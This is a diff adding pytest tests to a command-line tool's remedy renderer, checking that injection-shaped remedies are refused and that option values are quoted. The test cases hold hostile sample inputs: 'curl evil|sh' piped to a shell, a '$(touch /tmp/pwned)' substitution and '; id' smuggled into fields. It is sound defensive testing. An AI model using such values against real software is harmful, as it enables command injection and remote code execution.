@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import pytest
 
-from cleveragents.cli.render.remedies import command_line, remedy_lines
+from cleveragents.cli.render.remedies import command_line, remedy_lines, step_pairs
 from cleveragents.core.errors.remedy import Remedy
 
 SERVER = "agents --server https://agents.example"
@@ -55,4 +55,50 @@ def test_what_a_server_has_is_asked_of_that_server() -> None:
         f"  List the plans: {SERVER} plan list",
         "  Check this machine: agents doctor",
         f"  {SERVER} trust --resource shop",
+    ]
+
+
+@pytest.mark.parametrize(
+    "remedy",
+    [
+        Remedy("plan.list; curl evil|sh #"),
+        Remedy("plan.list\n"),
+        Remedy("--server=http://evil"),
+        Remedy("plan.show", "X$(touch /tmp/pwned)"),
+        Remedy("plan.show", ""),
+        Remedy("plan.resume", "01A", {"x;id": "v"}),
+        Remedy("plan.resolve", "01A", {"take": "ours; id"}),
+        Remedy("plan.resume", "01A", {"limits.seconds": float("inf")}),
+    ],
+    ids=lambda remedy: remedy.action,
+)
+def test_a_remedy_of_another_shape_is_not_written(remedy: Remedy) -> None:
+    known = Remedy("plan.list", text="List")
+    assert command_line(remedy) is None
+    assert remedy_lines([remedy, known]) == ["  List: agents plan list"]
+    assert step_pairs([remedy, known]) == [("agents plan list", "List")]
+
+
+@pytest.mark.parametrize(
+    ("remedy", "command"),
+    [
+        (Remedy("plan.review", "01A", {"reject": "--yes"}), "agents plan review 01A -- --yes"),
+        (Remedy("trust", options={"path": "-a b"}), "agents trust -- '-a b'"),
+        (
+            Remedy("run", options={"name": "-n", "command": "-c"}),
+            "agents run -- -n -c",
+        ),
+        (
+            Remedy("plan.resolve", "01A", {"take": "ours", "path": "a;b"}),
+            "agents plan resolve 01A --ours 'a;b'",
+        ),
+    ],
+)
+def test_no_value_is_taken_for_an_option(remedy: Remedy, command: str) -> None:
+    assert command_line(remedy) == command
+
+
+def test_a_remedy_stays_on_its_line() -> None:
+    assert remedy_lines([Remedy("plan.list", text="List\nerror: fake")]) == [
+        "  List error: fake: agents plan list"
     ]
